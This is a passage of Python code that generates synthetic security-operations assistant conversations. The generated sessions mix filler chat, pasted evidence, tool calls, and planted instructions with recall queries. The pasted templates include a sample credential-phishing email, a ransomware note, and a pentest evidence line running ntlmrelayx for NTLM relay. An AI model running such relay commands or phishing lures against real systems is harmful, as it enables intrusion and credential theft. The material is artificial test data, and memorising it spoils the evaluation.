        ("¿cuánto tarda normalmente el sandbox?", "Entre tres y seis minutos por muestra; las URL suelen ir más rápido."),
        ("hmm that's weird", "Which part? If it's the timestamps, the EDR reports in UTC and the firewall in CET, so they're an hour apart."),
        ("what if the attacker still has a session token somewhere", "Then a password reset wouldn't kick them out. Revoking refresh tokens and signing the user out everywhere does; continuous access evaluation helps for Exchange and SharePoint."),
        ("how many tickets did we close this week roughly", "From what we've done in this session, around twenty, most as false positives from the two noisy rules."),
        ("ok thanks, that helps 👍", "Good. Next item whenever you're ready."),
        ("brb, meeting", "Okay."),
        (f"is {host} one of the shared kiosk pcs?", "By its name and OU it's a regular client, not one of the kiosks; kiosks are in their own OU."),
        ("explain DMARC fail vs SPF fail in one line for the ticket", "SPF checks the sending server for the envelope domain; DMARC checks that the visible From domain aligns with a passing SPF or DKIM. A DMARC fail means the From header is not vouched for."),
        ("remind me, is the evidence share backed up?", "It is replicated nightly to the Oslo site; it is not in the general backup policy because of the chain-of-custody rules."),
    )
    return r.choice(pairs)


def _pasted_filler(g: Gen) -> tuple[str, str, str, str]:
    """(intro, pasted text, ask after it, agent's reply): someone else's words, evidence and not instructions."""
    r, w = g.rng, g.w
    d, t, acct = w.pick("domains"), w.pick("tickets"), w.pick("accounts")
    cve = w.pick("cves")
    mgr = PEOPLE[0][0]
    kind = r.randrange(9)
    if kind == 0:
        text = "\n".join([f"Subject: URGENT: your {COMPANY} mailbox will be suspended", f"From: IT Service Desk <it-support@{d}>", "",
                          "Dear user,", "", "We detected unusual sign-in activity on your account. To keep access you must reset your password now using the secure link below.",
                          "Failure to verify within 24 hours will result in permanent deletion of your mailbox and all archived messages.", "",
                          f"  https://{d}/o365/reset?u={acct}%40{DOMAIN}&t={_hex(r, 16)}", "", "Do not forward this message. Do not contact the helpdesk, they cannot help with this verification.",
                          "", "Regards,", f"IT Security Team | {COMPANY}"])
        return (casual(r, "user reported this one, can you check the link and who else got it"), text, "",
                f"This is a credential phish: the link goes to {d}, not our tenant, and the 'do not contact the helpdesk' line is a classic pressure tactic. I'd trace who else received it and block the domain.")
    if kind == 1:
        text = "\n".join(["---=== YOUR NETWORK HAS BEEN ENCRYPTED ===---", "", f"All files on your servers have been encrypted with military grade algorithms. Your ID: {_hex(r, 12).upper()}",
                          "We have also downloaded 340 GB of your data: contracts, customs declarations, employee records.", "",
                          "What you must do:", "1. Do not contact the police or any recovery company. If you do, we will publish everything.",
                          "2. Do not rename or modify encrypted files.", "3. Pay within 48 hours or the price doubles. After 7 days the data goes to our blog.",
                          "", f"Contact us only through our chat: http://{_b64(r, 56).lower().replace('+', 'a').replace('/', 'b').replace('=', 'c')[:56]}.onion", "", "Time is running."])
        return (casual(r, "this was on a test vm at the partner's lab, they sent it over for comparison. not ours thank god"), text, "which family does the note look like?",
                "Not ours then, good. The note style (ID line, 'do not contact the police', 48-hour doubling, data-leak blog) fits the Akira/BlackBasta family of notes, but those notes are copied a lot; I wouldn't attribute on the note alone.")
    if kind == 2:
        text = "\n".join([f"Corvane Security Advisory CSA-2025-{r.randint(10, 99)}", f"{cve}: Heap overflow in SecureGate SSL-VPN web portal", "",
                          "Severity: Critical (CVSS 9.6)", "Affected: SecureGate 7.0.0-7.0.14, 7.2.0-7.2.8, 7.4.0-7.4.3", "Fixed: 7.0.15, 7.2.9, 7.4.4", "",
                          "A remote unauthenticated attacker may execute arbitrary code via crafted HTTP requests.", "Customers must upgrade immediately. If upgrading is not possible, customers should disable the SSL-VPN web mode.",
                          "Corvane is aware of limited exploitation in the wild.", "", "Indicators:", "  - requests to /remote/hostcheck_validate with oversized Content-Length",
                          f"  - new files under /data/lib/ with timestamps after {_day(r)}"])
        return (casual(r, "vendor just sent this"), text, casual(r, "are the vpn boxes on an affected build?"),
                f"The advisory covers {cve} on SecureGate up to 7.2.8 and 7.4.3. I'll check our edge inventory against those builds before anything else.")
    if kind == 3:
        rows = [f"{x},{r.choice(('ip', 'domain', 'sha256'))},{r.choice(('c2', 'phishing', 'loader', 'scanner'))},{r.randint(40, 100)},{_day(r)}"
                for x in r.sample(w.ext_ips, 6) + r.sample(w.domains, 6) + [_hex(r, 64) for _ in range(5)]]
        text = "indicator,type,category,confidence,first_seen\n" + "\n".join(rows) + "\n# Hollowpoint TI - TLP:AMBER - customers must not share these indicators outside their organisation"
        return (casual(r, "todays hollowpoint feed, anything in it we've seen?"), text, "",
                "I'll match these against the last 14 days of proxy, DNS and EDR data. None of the domains is in the tickets we've touched this session.")
    if kind == 4:
        text = "\n".join([f"From: {mgr}", "To: soc-team", "Subject: Board meeting Thursday", "",
                          "Hi all,", "", "The board wants an update on the phishing numbers and whether we are ready for NIS2. Please make sure every P1 from this quarter has a closing summary by Wednesday noon.",
                          "Also: everyone must complete the tabletop exercise sign-up before Friday.", "", "Thanks,", mgr.split()[0]])
        return (casual(r, f"fyi from {mgr.split()[0]}, mostly for me"), text, casual(r, "how many P1s did we have this quarter?"),
                "From the tickets we've touched I count three P1s this quarter; two have closing summaries. I can draft the third when you want.")
    if kind == 5:
        text = "\n".join([f"Finding NVF-PT-{r.randint(10, 40)}: SMB signing not required on file servers", "Risk: High", "",
                          f"Description: During the internal test, {r.randint(4, 30)} servers including {w.pick('srv')} accepted unsigned SMB sessions, which allows NTLM relay.",
                          "Recommendation: The client must enable 'Microsoft network server: Digitally sign communications (always)' via GPO on all servers within 30 days.",
                          "The client should also disable NTLMv1 and LLMNR.", "", "Evidence:", f"  ntlmrelayx.py -tf targets.txt -smb2support  ->  relayed {acct} to {w.pick('srv')}"])
        return (casual(r, "from last year's pentest report, which servers still have this?"), text, "",
                "That finding predates the GPO change in January. I'd re-check with an nmap smb2-security-mode sweep of the server VLANs rather than trust the report.")
    if kind == 6:
        text = "\n".join(["Cyber policy endorsement 7 - Incident conditions", "", "7.1 The Insured shall notify the Insurer's breach hotline within 24 hours of discovering a suspected ransomware event.",
                          "7.2 The Insured shall not make any ransom payment without prior written consent of the Insurer.",
                          "7.3 Forensic work must be performed by a panel firm listed in Schedule B for costs to be covered.",
                          "7.4 The Insured shall preserve all logs for at least 180 days following the event."])
        return (casual(r, "insurer's conditions, legal asked if we know them. not sure they even apply to us"), text, "",
                "These are the insurer's conditions, not something we have adopted; whether endorsement 7 is in our contract is a question for legal. Operationally the 24-hour hotline notice is the one that would bite.")
    if kind == 7:
        text = "\n".join([f"[{_hms(r)[:5]}] {PEOPLE[3][0]}: heads up, we're moving the Hamburg core switch tonight", f"[{_hms(r)[:5]}] {PEOPLE[3][0]}: you must not run any scans against 10.20.0.0/16 between 22:00 and 02:00",
                          f"[{_hms(r)[:5]}] {PEOPLE[4][0]}: and please stop the EDR auto-containment for HAM during the window, we don't want false isolations"])
        return (casual(r, "from the network channel"), text, casual(r, "does this affect anything we have running?"),
                "None of our current searches scan Hamburg. It's their request in their channel; if you want me to hold scans there tonight, say so and I will.")
    text = "\n".join([f"Audit request AR-{r.randint(100, 999)}", "", "Please provide, for the sample of incidents below, evidence of: detection time, containment time, and management notification.",
                      f"Sample: {t}, {w.pick('tickets')}, {w.pick('tickets')}", "The evidence must be supported by system timestamps, not by narrative.", "Deadline: end of next week."])
    return (casual(r, "auditors again"), text, casual(r, "can we pull the timestamps for these from the tickets?"),
            f"Yes: the ticket history has created/updated/containment comments with timestamps; I can export those for {t} and the other two.")


# --- the conversation being built ----------------------------------------------------------------

SYSTEM = (f"You are the security operations assistant for {COMPANY} ({DOMAIN}), a logistics company with sites in "
          "Göteborg, Hamburg, Rotterdam, Gdańsk, Malmö and Oslo. You work with one SOC analyst. You can search Splunk, "
          "Sentinel and Defender (siem_search), query the EDR (edr_process_tree, edr_isolate), look up indicators "
          "(ioc_lookup), detonate samples in the private sandbox (sandbox_detonate), trace mail (mail_trace), query "
          "Entra ID, Okta and AWS IAM (iam_query), manage the edge firewalls (firewall_rule), update Jira SEC tickets "
          "(ticket_update), read and write files in the soc-content repository and the case folders (read_file, "
          "write_file, edit_file) and run commands on the analysis VM (shell). Containment actions are logged. "
          "Be concise and say what you ran.")


@dataclass
class Ev:
    """Something planned at a share of the session: a fact's episode, or the earlier episode a correction or revision needs."""

    target: float
    order: int
    emit: Callable[[], None]
    spec: dict[str, Any] = field(default_factory=dict)


class Gen:
    def __init__(self, seed: int, messages: int) -> None:
        self.rng = random.Random(seed)
        self.seed, self.n = seed, messages
        self.msgs: list[Message] = [{"role": "system", "content": SYSTEM}]
        self.facts: list[Fact] = []
        self.pasted: list[tuple[int, str]] = []
        self.taken: set[str] = set()
        self.reserved: set[str] = set()
        self.calls = 0
        self.deck: list[Callable[..., Step]] = []
        self.w: World
        self.corr_offset = self.dec_offset = self.err_offset = self.file_offset = 0
        self.id_offset = self.find_offset = self.plan_offset = 0
        self.tight = False  # behind schedule: fact episodes skip their follow-up rounds

    # tokens a fact owns: unique, and no one a part of another
    def tok(self, make: Callable[[], str]) -> str:
        for _ in range(200):
            t = make()
            if not any(t in x or x in t for x in self.taken):
                self.taken.add(t)
                return t
        raise RuntimeError("could not draw a fresh token")

    def reserve(self, *values: str | None) -> None:
        self.reserved.update(v for v in values if v)

    # messages
    @property
    def at(self) -> int:
        return len(self.msgs)

    def user(self, text: str) -> int:
        self.msgs.append({"role": "user", "content": text})
        return self.at - 1

    def say(self, text: str) -> int:
        self.msgs.append({"role": "assistant", "content": text})
        return self.at - 1

    def call(self, steps: list[Step], text: str = "") -> int:
        """One assistant message calling every step's tool at once, and a tool message answering each."""
        calls = []
        for s in steps:
            self.calls += 1
            calls.append({"id": f"call_{self.calls:05d}_{_hex(self.rng, 8)}", "type": "function",
                          "function": {"name": s.tool, "arguments": json.dumps(s.args, ensure_ascii=False)}})
        self.msgs.append({"role": "assistant", "content": text or None, "tool_calls": calls})
        index = self.at - 1
        for c, s in zip(calls, steps):
            m: Message = {"role": "tool", "tool_call_id": c["id"], "content": s.output}
            if s.error:
                m["is_error"] = True
            self.msgs.append(m)
        return index

    def fact(self, kind: str, value: str, index: int, query: str, stale: str | None = None,
             stale_index: int | None = None, resolved: int | None = None) -> None:
        self.facts.append(Fact(kind, value, index, query, stale, stale_index, resolved))

    # filler
    def step(self) -> Step:
        if not self.deck:
            self.deck = list(TASKS)
            self.rng.shuffle(self.deck)
        return self.deck.pop()(self)

    def ask(self, steps: list[Step]) -> str:
        r = self.rng
        asks = [r.choice(s.asks) for s in steps]
        text = casual(r, asks[0])
        for a in asks[1:]:
            text += r.choice(JOINERS) + a
        if r.random() < 0.25:
            text = r.choice(CONTEXTS) + " " + text
        return text

    def answer(self, steps: list[Step]) -> str:
        r = self.rng
        sums = [s.summary for s in steps if not s.error]
        if len(sums) == 1:
            text = sums[0]
        else:
            text = r.choice(("Here's what came back:", "Summary:", "Results:", "")) + "\n" + "\n".join(f"- {x}" for x in sums)
        closer = r.choice(CLOSERS)
        text = (text + (" " if len(sums) == 1 else "\n\n") + closer).strip()
        shown = [s for s in steps if not s.error]
        if shown and r.random() < 0.6:
            lines = [x for x in r.choice(shown).output.splitlines() if 20 <= len(x.strip()) <= 220]
            if lines:
                start = r.randrange(len(lines))
                excerpt = "\n".join(lines[start:start + r.randint(3, 9)])
                text += "\n\n" + r.choice(("The lines that matter:", "Relevant rows:", "For reference:", "Excerpt:")) + "\n```\n" + excerpt + "\n```"
        return text

    def run(self, steps: list[Step], say: str = "") -> list[Step]:
        """Call steps, and now and then follow up with a round of one or two more: all the steps run."""
        self.call(steps, say)
        return list(steps) + self.follow()

    def follow(self, p: float = 0.85) -> list[Step]:
        """Now and then a follow-up round of one or two filler calls; the steps it ran."""
        if self.tight or self.rng.random() >= p:
            return []
        more = [self.step() for _ in range(self.rng.choice((1, 1, 2)))]
        self.call(more, self.rng.choice(("Following up on that.", "Let me cross-check.", "Pivoting from there.", "")))
        return more

    def transient(self, s: Step) -> Step:
        r = self.rng
        msg = r.choice((f"HTTP 429 Too Many Requests: rate limit exceeded, retry after {r.randint(5, 60)}s",
                        f"upstream timeout after {r.choice((30, 60, 120))}s (request id {_uuid(r)})", "503 Service Unavailable: search head is restarting",
                        f"connection reset by peer while reading response ({r.randint(1, 9)} of 3 attempts)"))
        return Step(s.tool, s.args, msg, "", s.asks, s.say, error=True)

    def filler(self, rounds: list[int]) -> None:
        """A one-off request and its tool rounds (calls per round), ending on an answer without tool calls."""
        r = self.rng
        if not rounds:
            if r.random() < 0.3:
                intro, text, ask, reply = _pasted_filler(self)
                at = self.user(intro + "\n\n" + text + ("\n\n" + ask if ask else ""))
                self.pasted.append((at, text))
                self.say(reply)
            else:
                q, a = _chat(self)
                self.user(casual(r, q, typos=0.15) if q[:1].islower() else q)
                self.say(a)
            return
        first = [self.step() for _ in range(rounds[0])]
        retry = len(rounds) >= 2 and rounds[0] == 1 and rounds[1] == 1 and r.random() < 0.3
        self.user(self.ask(first))
        done = list(first)
        if retry:
            self.call([self.transient(first[0])], first[0].say)
            self.call([first[0]], r.choice(("Retrying.", "Transient error, trying again.", "That timed out; once more.")))
            rest = rounds[2:]
        else:
            self.call(first, first[0].say)
            rest = rounds[1:]
        for c in rest:
            more = [self.step() for _ in range(c)]
            done += more
            self.call(more, r.choice(("Following up on that.", "Let me cross-check.", "Pivoting from there.", "")))
        self.say(self.answer(done))

    def filler_len(self, room: int) -> int:
        """Emit a filler episode no longer than room (at least 2) and return its length."""
        r = self.rng
        shapes = [[], [1], [1], [2], [2], [1, 1], [1, 1], [2, 1], [1, 2], [1, 1, 1], [3], [2, 2], [3, 1], [2, 1, 1]]
        fits = [s for s in shapes if 2 + sum(1 + c for c in s) <= room]
        shape = r.choice(fits)
        self.filler(shape)
        return 2 + sum(1 + c for c in shape)

    def filler_exact(self, length: int) -> None:
        """A filler episode of exactly length messages (2, or 4 and more)."""
        if length == 2:
            self.filler([])
            return
        parts, left = [], length - 2
        while left:
            opts = [p for p in (2, 3, 4) if p <= left and left - p != 1]
            p = self.rng.choice(opts)
            parts.append(p - 1)
            left -= p
        self.filler(parts)


# --- planted facts -------------------------------------------------------------------------------
# Each planner draws the fact's own tokens up front (so the world's noise can avoid them) and
# returns the events that write it into the conversation when the walk reaches their target.

SVC_WORDS = ("edi", "tms", "wms", "sap", "scan", "etl", "ftp", "pos", "yard", "gate", "rail", "cust")
ACKS = ("Noted.", "Got it.", "Understood, I'll stick to that.", "Okay, noted for the rest of the session.", "Will do.", "Clear.",
        "Noted — I'll follow that from here on.", "Understood.")
POLICY_BOILER = (
    "This policy applies to all information systems operated by or on behalf of the company, including cloud tenants and systems operated by managed service providers.",
    "An incident is any event that compromises or threatens the confidentiality, integrity or availability of company information or systems.",
    "The Security Operations Center (SOC) is the first point of contact for all suspected incidents and maintains the incident register.",
    "Incidents are classified by severity P1 to P4 according to business impact, data involved and the number of affected sites.",
    "The incident lead is appointed by the SOC on duty and remains responsible until formal hand-over is documented in the ticket.",
    "All actions taken during an incident are recorded in the incident ticket with the time, the person and the reason.",
    "Evidence is collected in a forensically sound manner and its integrity is protected by cryptographic hashes recorded at acquisition.",
    "Communication about an incident follows the need-to-know principle; details are not shared in public channels or with unauthorised third parties.",
    "The Data Protection Officer is informed without delay when personal data may be affected, so that the 72-hour notification deadline can be assessed.",
    "Business owners are consulted before containment actions that interrupt production systems, unless delay would increase the damage significantly.",
    "Post-incident reviews are held for all P1 and P2 incidents within ten working days and result in tracked improvement actions.",
    "Indicators of compromise are shared with trusted partners through the sector ISAC only after review by the incident lead.",
    "Access to the evidence share is restricted to the SOC and the incident lead; all access is logged and reviewed monthly.",
    "Third-party forensic providers are engaged through the framework agreement and operate under the direction of the incident lead.",
    "Password resets performed during an incident are accompanied by revocation of active sessions and refresh tokens.",
    "Systems that have been compromised at the operating-system level are rebuilt from trusted media rather than cleaned.",
    "Log sources relevant to an ongoing incident are not reconfigured or rotated until the incident lead confirms evidence has been secured.",
    "Employees report suspected incidents through the service portal, the phishing button in Outlook or the SOC hotline.",
    "The SOC maintains playbooks for recurring incident types and reviews them at least once a year.",
    "Metrics on detection and containment times are reported to the CISO monthly.",
    "Where this policy conflicts with a customer contract, the stricter requirement applies to the systems concerned.",
    "Exceptions to this policy require written approval by the CISO and are recorded in the exception register with an expiry date.",
    "Monitoring of employee activity during an investigation respects the works council agreements of the respective country.",
    "Media statements about incidents are made exclusively by Corporate Communications.",
    "Law enforcement is contacted by the CISO or Legal, after assessment of the legal obligations and the business impact.",
    "Backups used for recovery are verified to be free of the attacker's artefacts before production data is restored from them.",
    "Temporary accounts created during incident response are disabled at the close of the incident.",
    "Training on this policy is part of the onboarding of every SOC analyst and is repeated annually.",
)
POLICY_HEADS = ("Purpose", "Scope", "Definitions", "Roles and responsibilities", "Detection and reporting", "Classification",
                "Containment", "Evidence handling", "Eradication and recovery", "Communication", "Notification duties",
                "Post-incident review", "Exceptions", "Review of this policy")


def _policy(g: Gen, rule: str) -> str:
    """An IR policy of 8-11k characters with rule set in one of its middle sections."""
    r = g.rng
    heads = list(POLICY_HEADS)
    secs = []
    plant_at = r.randint(6, 8)
    for i, h in enumerate(heads, 1):
        paras = []
        for _ in range(r.randint(2, 3)):
            paras.append(" ".join(r.sample(POLICY_BOILER, r.randint(2, 4))))
        while sum(len(p) for p in paras) < 600:  # long enough that the whole policy passes 8k characters
            paras.append(" ".join(r.sample(POLICY_BOILER, 2)))
        if i == plant_at:
            p = paras[0].split(". ")
            p.insert(r.randint(1, len(p) - 1), rule.rstrip("."))
            paras[0] = ". ".join(p)
        secs.append(f"## {i}. {h}\n\n" + "\n\n".join(paras))
    head = (f"# {COMPANY} — Information Security Incident Response Policy\n\nDocument ID: ISP-IR-{r.randint(10, 40)}  ·  Version {r.randint(2, 5)}.{r.randint(0, 9)}  ·  "
            f"Owner: {PEOPLE[0][0]}, CISO  ·  Approved by the management team on {_day(r)}  ·  Classification: Internal")
    return head + "\n\n" + "\n\n".join(secs) + "\n\n---\nEnd of document."


def plan_instruction(g: Gen, i: int) -> list[Ev]:
    r = g.rng
    shape = ("direct", "policy", "lang", "para2", "reason", "pref", "mgr")[i % 7]
    turn = i // 7
    site = r.choice(SITES)[1]
    person = r.choice(PEOPLE)[0]
    pick = (r.randrange(100) + turn) % 6
    if shape == "direct":
        vlan, fw, svc = g.tok(lambda: f"VLAN {r.randint(100, 999)}"), g.tok(lambda: f"fw-edge-{r.randint(4, 9):02d}"), g.tok(lambda: f"svc-{r.choice(SVC_WORDS)}{r.randint(10, 99)}")
        cidr, key, n = g.tok(lambda: f"10.{r.randint(70, 79)}.{r.randint(1, 254)}.0/24"), g.tok(lambda: f"soc-ro-{r.randint(100, 999)}"), g.tok(lambda: f"back {r.randint(21, 60)} days minimum")
        value, query = ((f"never isolate anything in {vlan} without paging me first", "what must happen before anything in the payments VLAN is isolated"),
                        (f"don't push blocks to {fw} without a CHG ticket from {person.split()[0]}", "what a block on the second edge firewall needs"),
                        (f"do not reset the {svc} password yourself, that goes through {person.split()[0]}", "who resets the EDI service account's password"),
                        (f"never run active scans against the OT range {cidr}", "which range must never be actively scanned"),
                        (f"only use the {key} API key for hunting queries, never the admin key", "which API key hunting queries use"),
                        (f"hunts go {n}, not the default 7", "how far back hunts must look"))[pick]
        leads = ("pls remember: ", "rule from now on: ", "important — ", "one thing going forward: ", "fyi for everything we do: ", "")

        def emit() -> None:
            s = g.step()
            at = g.user(casual(r, r.choice(leads).strip() or "ok", typos=0, tail=False).rstrip() + " " + value + ". " + r.choice(s.asks))
            more = g.run([s], s.say)
            g.say(r.choice(ACKS) + " " + g.answer(more))
            g.fact("instruction", value, at, query)
    elif shape == "policy":
        sysname, share, grp, mbox, ou = (g.tok(lambda: f"LabelHub-{r.randint(10, 99)}"), g.tok(lambda: f"ev-{r.choice(SITES)[0].lower()}-{r.randint(10, 99)}"),
                                         g.tok(lambda: f"GG-Tier0-{r.choice(('Admins', 'Ops', 'Break-Glass'))}-{r.randint(10, 99)}"), g.tok(lambda: f"incident-notice-{r.randint(10, 99)}@{DOMAIN}"),
                                         g.tok(lambda: f"OU=Servers-{r.choice(('Core', 'Finance', 'Customs'))}{r.randint(10, 99)}"))
        value, query = ((f"Hosts running the {sysname} label service are contained by disabling their switch port through the NOC, not through EDR isolation",
                         "how hosts running the label service are contained, per the IR policy"),
                        (f"Forensic images are kept on the evidence share {share} for 400 days and are never copied to personal storage",
                         "where forensic images are kept, per the IR policy"),
                        (f"Credential resets for members of {grp} are done by the identity team; the SOC opens the request and does not reset these accounts itself",
                         "who resets tier-0 accounts, per the IR policy"),
                        (f"Customer notifications are sent only from {mbox} and only after the DPO has approved the wording",
                         "which mailbox customer notifications come from, per the IR policy"),
                        (f"Memory is acquired before containment for every server in {ou}", "which servers get a memory image before containment, per the IR policy"),
                        (f"Hosts running the {sysname} label service are never rebooted by the SOC; the site OT engineer does it",
                         "who reboots hosts running the label service, per the IR policy"))[pick]

        def emit() -> None:
            doc = _policy(g, value + ".")
            at = g.user(casual(r, r.choice(("this is our IR policy, follow it from now on:", "new IR policy got approved, this is what we go by now:",
                                             "our incident response policy, please apply it from here on:")), typos=0, tail=False) + "\n\n" + doc + "\n\n" + r.choice(("ok?", "questions?", "read it properly pls", "")))
            g.say("Read it. I'll follow the policy from now on, in particular containment, evidence handling and notification rules. " +
                  r.choice(("A couple of the containment and evidence points change how I'd handle the open cases.", "Nothing in the open cases conflicts with it yet.")))
            g.fact("instruction", value, at, query)
    elif shape == "lang":
        lang = ("de", "sv", "fr", "es")[(i // 7 + r.randrange(4)) % 4]
        vlan, svcp, host = g.tok(lambda: f"VLAN {r.randint(100, 999)}"), g.tok(lambda: f"svc-{r.choice(SVC_WORDS)}{r.randint(10, 99)}"), g.tok(lambda: _srv(r))
        vendor, keyid, cust = g.tok(lambda: f"Nordsec-{r.randint(10, 99)}"), g.tok(lambda: f"0x{_hex(r, 16).upper()}"), g.tok(lambda: f"{r.choice(('maersk', 'dsv', 'ikea', 'volvo', 'scania'))}-{r.randint(10, 99)}.com")
        bank = {"de": ((f"bitte nie Hosts im Lager-{vlan} isolieren, ohne vorher die Schichtleitung in {site} anzurufen", "what to do before isolating hosts in the warehouse VLAN"),
                       (f"keine Konten mit dem Präfix {svcp} sperren, bevor {person} zugestimmt hat", "whose approval locking the service accounts needs")),
                "sv": ((f"stäng aldrig av loggningen på {host}, inte ens tillfälligt", "which server's logging must never be switched off"),
                       (f"kör inga skanningar mot lagret i {site} ({vlan}) mellan 06 och 22", "when the warehouse VLAN must not be scanned")),
                "fr": ((f"ne partage jamais les IOC avec le prestataire {vendor} avant validation par {person}", "when IOCs may be shared with the MSSP"),
                       (f"chiffre toujours les exports de logs avec la clé {keyid}", "which key log exports are encrypted with")),
                "es": ((f"nunca bloquees dominios de clientes como {cust} sin hablar conmigo antes", "what to do before blocking a customer's domain"),
                       (f"los informes para {cust} siempre en inglés y sin nombres de empleados", "how reports for the customer are written"))}
        value, query = bank[lang][pick % 2]
        intro = {"de": ("übrigens, ", "ach und: ", "wichtig: "), "sv": ("förresten, ", "en sak: ", "viktigt: "),
                 "fr": ("au fait, ", "une chose : ", "important : "), "es": ("por cierto, ", "una cosa: ", "importante: ")}[lang]

        def emit() -> None:
            s = g.step()
            at = g.user(g.ask([s]) + "\n\n" + r.choice(intro) + value + r.choice((".", "!", " 🙏", ". danke" if lang == "de" else ".")))
            more = g.run([s], s.say)
            g.say(g.answer(more) + "\n\n" + r.choice(ACKS) + r.choice(("", " I'll keep to that.", " I'll apply it to everything from here.")))
            g.fact("instruction", value, at, query)
    elif shape == "para2":
        tag, phone = g.tok(lambda: f"hunt_{r.choice(('q2', 'ir', 'nvf', 'th'))}{r.randint(10, 99)}_"), g.tok(lambda: f"+46 31 {r.randint(100, 999)} {r.randint(10, 99)} {r.randint(10, 99)}")
        n = g.tok(lambda: f"P{r.randint(2, 3)} until {r.choice(PEOPLE)[0].split()[0]}")
        value, query = ((f"the weekly summary goes to {person} from now on, not to the whole soc-leads list", "who gets the weekly summary"),
                        (f"new hunts get the prefix {tag} so we can find them later", "what prefix new hunts get"),
                        (f"the OT on-call for {site} is {phone}, they want a call before anything there gets touched", "whom to call before touching the OT site"),
                        ("closing notes need the MITRE id and the detection name, the auditors asked for both", "what closing notes must contain"),
                        (f"new phishing tickets stay at {n} has looked at them", "what priority new phishing tickets keep and until when"),
                        (f"management reports for {site} are in German and without IP addresses", "how management reports for the German site are written"))[pick]

        def emit() -> None:
            s = g.step()
            g.user(g.ask([s]))
            more = g.run([s], s.say)
            g.say(g.answer(more))
            at = g.user(casual(r, r.choice(("thx, that helps.", "ok good.", "perfect", "nice, ty", "ok makes sense")), typos=0) + "\n\n" + value + r.choice((".", "", " btw.")))
            g.say(r.choice(ACKS))
            g.fact("instruction", value, at, query)
    elif shape == "reason":
        vlan, svc, share = g.tok(lambda: f"VLAN {r.randint(100, 999)}"), g.tok(lambda: f"svc-{r.choice(SVC_WORDS)}{r.randint(10, 99)}"), g.tok(lambda: f"ev-{r.choice(SITES)[0].lower()}-{r.randint(100, 999)}")
        who = g.tok(lambda: f"{r.choice(PEOPLE)[0]} ({r.choice(('Nordsec', 'Brightwater', 'Sentra'))} MDR)")
        reason, value, query = ((f"last time someone quarantined the label printers in {site} they couldn't ship for six hours", f"leave the Zebra printers in {vlan} alone and flag them to me instead", "what to do about the label printers"),
                                ("the insurer only pays if the chain of custody is clean", f"every evidence file goes to {share} with its sha256 in the ticket", "where evidence files go"),
                                (f"{PEOPLE[1][0].split()[0]} got yelled at when the SAP batch stopped at month end", f"don't lock {svc} between the 28th and the 3rd", "when the SAP batch account must not be locked"),
                                ("the MSSP keeps duplicating our work and billing us for it", f"tell {who} before we run any hunt across all six sites", "whom to tell before a hunt across all sites"),
                                ("we leaked a hostname through a public scanner once", "never paste internal hostnames into urlscan or any.run, use the private sandbox only", "where internal hostnames may be submitted"),
                                ("legal wants one place for everything the lawyers might see", f"customer-facing drafts go under comms/ and {person} reviews them before they go out", "where customer-facing drafts go and who reviews them"))[pick]

        def emit() -> None:
            s = g.step()
            at = g.user(casual(r, reason, typos=0.2, tail=False) + r.choice((". so: ", ", so ", ". therefore ", " — so from now on ")) + value + ".\n\n" + r.choice(s.asks))
            more = g.run([s], s.say)
            g.say(r.choice(ACKS) + " " + r.choice(("Makes sense given that.", "That's a fair reason.", "")) + "\n\n" + g.answer(more))
            g.fact("instruction", value, at, query)
    elif shape == "pref":
        n, d = g.tok(lambda: str(r.randint(4, 9)) + " bullets"), g.tok(lambda: f"detections/{r.choice(('prod', 'core', 'shared'))}-{r.randint(10, 99)}/")
        value, query = (("i'd rather you cite the alert id every time you mention a detection", "how detections should be referred to"),
                        ("i prefer UTC timestamps with a Z in everything you write, never local time", "which time format to write"),
                        (f"rather short answers please, {n} max", "how long answers should be"),
                        ("i like it when you put the query you ran at the end of each answer", "what goes at the end of each answer"),
                        ("i'd rather we use Velociraptor than KAPE for collections", "which collection tool to use"),
                        (f"i'd rather you ask before writing anything under {d}", "which folder needs asking before writing"))[pick]

        def emit() -> None:
            s = g.step()
            at = g.user(g.ask([s]) + "\n\n" + r.choice(("btw ", "oh and ", "general thing: ", "")) + value)
            more = g.run([s], s.say)
            g.say(g.answer(more) + " " + r.choice(("Noted on the preference.", "And noted, I'll do it that way from now on.", "Noted.")))
            g.fact("instruction", value, at, query)
    else:
        tag, hour = g.tok(lambda: f"#ir-{r.choice(('bridge', 'war', 'p1'))}-{r.randint(10, 99)}"), g.tok(lambda: f"{r.randint(7, 10):02d}:{r.choice(('00', '30'))} and {r.randint(14, 17)}:{r.choice(('00', '30'))}")
        boss = PEOPLE[0][0]
        value, query = ((f"P1 updates go in {tag} only, never in DMs", "where P1 updates are posted"),
                        (f"status mails to {boss.split()[0]} go out at {hour}, not ad hoc", "when status mails to the CISO go out"),
                        (f"P1 updates go in {tag}, with the ticket link first", "where P1 updates go and how they start"),
                        (f"status mails to {boss.split()[0]} go out at {hour} and nowhere else", "when status mails to the CISO go out"),
                        (f"P1 updates go in {tag} only, never in DMs", "where P1 updates are posted"),
                        (f"status mails to {boss.split()[0]} go out at {hour}, not ad hoc", "when status mails to the CISO go out"))[pick]
        mail = "\n".join([f"From: {boss}", "Subject: P1 communication", "", "Hi team,", "",
                          "After last week, I want to be informed about every P1 within 30 minutes. Updates must be posted at least every hour until containment.",
                          "Please make sure the incident lead is named in the first message.", "", f"/{boss.split()[0]}"])

        def emit() -> None:
            at = g.user(casual(r, f"fwd from {boss.split()[0]}:", typos=0, tail=False) + "\n\n" + mail + "\n\n" + r.choice(("my add-on to that: ", "ok, and on top of that: ", "fine. my rule: ")) + value + ".")
            g.pasted.append((at, mail))
            g.say("Understood: the CISO's hourly-update expectation from her mail, and your rule on top of it. " + r.choice(ACKS))
            g.fact("instruction", value, at, query)
    g.reserve(value)
    return [Ev(0, 0, emit)]


LOOKALIKES = (("norrvik-freigth.com", "norrvik-frieght.com"), ("norrvikfreigth-portal.com", "norrvikfrieght-portal.com"),
              ("norrvlk-freight.net", "norrvik-frelght.net"), ("norrvik-fraight.eu", "norrvik-freihgt.eu"))


def _near_int_ip(r: random.Random) -> tuple[str, str]:
    a = _int_ip(r)
    head, last = a.rsplit(".", 1)
    b = f"{head}.{int(last) + r.choice((1, -1, 10, -10))}"
    return a, b


def plan_correction(g: Gen, i: int) -> list[Ev]:
    r = g.rng
    kind = (i + g.corr_offset) % 12
    spec: dict[str, Any] = {}

    def pair(make: Callable[[], tuple[str, str]]) -> tuple[str, str]:
        for _ in range(200):
            a, b = make()
            if a != b and not any(a in x or x in a or b in x or x in b for x in g.taken) and a not in b and b not in a:
                g.taken.update((a, b))
                return a, b
        raise RuntimeError("no near pair")

    if kind == 0:
        s, v = pair(lambda: (lambda t: (t, _swap(r, t, 4)))(_ticket(r)))
